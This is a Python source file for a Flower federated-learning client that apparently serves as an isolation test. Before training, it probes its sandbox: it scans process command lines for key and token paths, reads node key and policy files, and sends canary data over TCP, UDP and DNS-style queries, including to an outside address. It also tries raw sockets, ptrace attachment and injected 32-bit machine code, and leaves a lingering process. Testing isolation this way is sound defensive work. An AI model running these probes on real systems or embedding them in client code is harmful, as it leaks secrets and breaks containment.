"""A client that looks for ways out of its process, as its author could write it.

What it finds it says on its own output, which stays at the site; what it can reach it tells a
canary. It trains all the same, so that a report leaves.
"""

import contextlib
import ctypes
import glob
import json
import os
import re
import socket
import sqlite3
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from flwr.app import Context, Message, RecordDict
from flwr.clientapp import ClientApp

from network_app import canary, task

app = ClientApp()
#: Words on command lines that name files of the node's.
_NAMED = re.compile(r"/[\w./-]*(?:policy\.yaml|node-key|node\.log|superexec-secret)")


@app.train()
def train(message: Message, context: Context) -> Message:
    """Try everything, then train."""
    part, parts = (int(context.node_config[k]) for k in ("partition-id", "num-partitions"))
    found = {name: _safely(way, context, part) for name, way in WAYS.items()}
    print(f"found {json.dumps(found)}", flush=True)
    weights = task.train(task.weights_of(message.content["arrays"]), part, parts)
    return Message(RecordDict({"arrays": task.record(weights)}), reply_to=message)


def _safely(way: Any, context: Context, part: int) -> Any:
    try:
        return way(context, part)
    except Exception as error:
        return f"no: {type(error).__name__}"


def command_lines(context: Context, part: int) -> list[str]:
    """Find paths of the node's on the command lines of all processes that can be seen."""
    return sorted({path for line in _all_lines() for path in _NAMED.findall(line)})


def tokens(context: Context, part: int) -> int:
    """Count the processes with a token on their command line."""
    return sum("--token\0" in line for line in _all_lines())


def _all_lines() -> Iterator[str]:
    for name in glob.glob("/proc/[0-9]*/cmdline"):
        with contextlib.suppress(OSError):  # a process that has ended since
            yield Path(name).read_text(errors="replace")


def site(context: Context, part: int) -> list[str]:
    """Read the site's files, at the place that the test tells its app."""
    folder = Path(str(context.node_config["site"]))
    names = [name for name in ("policy.yaml", "node-key", "node.log") if _reads(folder / name)]
    with sqlite3.connect(f"file:{folder / 'ledger.sqlite'}?mode=rw", uri=True) as ledger:
        ledger.execute("select * from sqlite_master").fetchall()
    return [*names, "ledger.sqlite"]


def _reads(path: Path) -> bool:
    try:
        return bool(path.read_bytes())
    except OSError:
        return False


def writing(context: Context, part: int) -> str:
    """Leave a canary in a folder that others read."""
    place = Path(str(context.node_config["site"])) / "left-by-app"
    place.write_text(canary.text(part))
    return "written"


def private_tmp(context: Context, part: int) -> list[str]:
    """Say what others left in the folder for temporary files, and leave something."""
    left = sorted(path.name for path in Path("/tmp").glob("left-by-*"))
    Path("/tmp/left-by-app").write_text(canary.text(part))
    return left


def listener(context: Context, part: int) -> str:
    """Send a canary to a port of this machine."""
    port = int(context.node_config["listener"])
    with socket.create_connection(("127.0.0.1", port), 3) as one:
        one.sendall(canary.text(part).encode())
    return "sent"


def route(context: Context, part: int) -> str:
    """Send a canary by datagram to another machine."""
    with socket.socket(type=socket.SOCK_DGRAM) as one:
        one.sendto(canary.text(part).encode(), ("192.0.2.1", 53))
    return "sent"


def name(context: Context, part: int) -> str:
    """Ask a resolver on this machine for a name that holds a canary."""
    with socket.socket(type=socket.SOCK_DGRAM) as one:
        one.settimeout(2)
        one.connect(("127.0.0.1", int(context.node_config["resolver"])))
        one.send(canary.text(part).encode())
        return one.recv(64).decode()


def families(context: Context, part: int) -> list[int]:
    """Open sockets that no namespace of networks covers, or that are raw."""
    found = []
    for family, kind, protocol in ((40, 1, 0), (17, 3, 1), (2, 3, 1)):
        with contextlib.suppress(OSError), socket.socket(family, kind, protocol):
            found.append(family)
    return found


def ptrace(context: Context, part: int) -> str:
    """Take hold of a process of its own user: in the node's place, the node."""
    libc = ctypes.CDLL(None, use_errno=True)
    with subprocess.Popen(["sleep", "30"]) as child:
        held = libc.ptrace(16, child.pid, 0, 0)  # PTRACE_ATTACH
        number = ctypes.get_errno()
        child.kill()
    return "held" if held == 0 else f"no: {os.strerror(number)}"


def call_32(context: Context, part: int) -> int:
    """Make a system call of another instruction set, in a child."""
    code = (
        "import ctypes, mmap; m = mmap.mmap(-1, 4096, prot=7);"
        "m.write(bytes((0xb8, 20, 0, 0, 0, 0xcd, 0x80, 0xc3)));"
        "p = ctypes.addressof(ctypes.c_char.from_buffer(m));"
        "assert ctypes.CFUNCTYPE(ctypes.c_long)(p)() > 0"
    )
    return subprocess.run(["python", "-c", code], check=False, capture_output=True).returncode


def memory(context: Context, part: int) -> int:
    """Take more memory than the node gives, in a child."""
    code = "b = bytearray(600 << 20); b[:: 4096] = b'x' * len(b[:: 4096])"
    return subprocess.run(["python", "-c", code], check=False, capture_output=True).returncode


def who(context: Context, part: int) -> int:
    """Say who this is."""
    return os.getuid()


def background(context: Context, part: int) -> str:
    """Leave a process behind that lives longer than this one."""
    subprocess.Popen(["sleep", "913"], start_new_session=True)
    return "started"


WAYS = {
    one.__name__: one
    for one in (
        who,
        command_lines,
        tokens,
        site,
        writing,
        private_tmp,
        listener,
        route,
        name,
        families,
        ptrace,
        call_32,
        memory,
        background,
    )
}
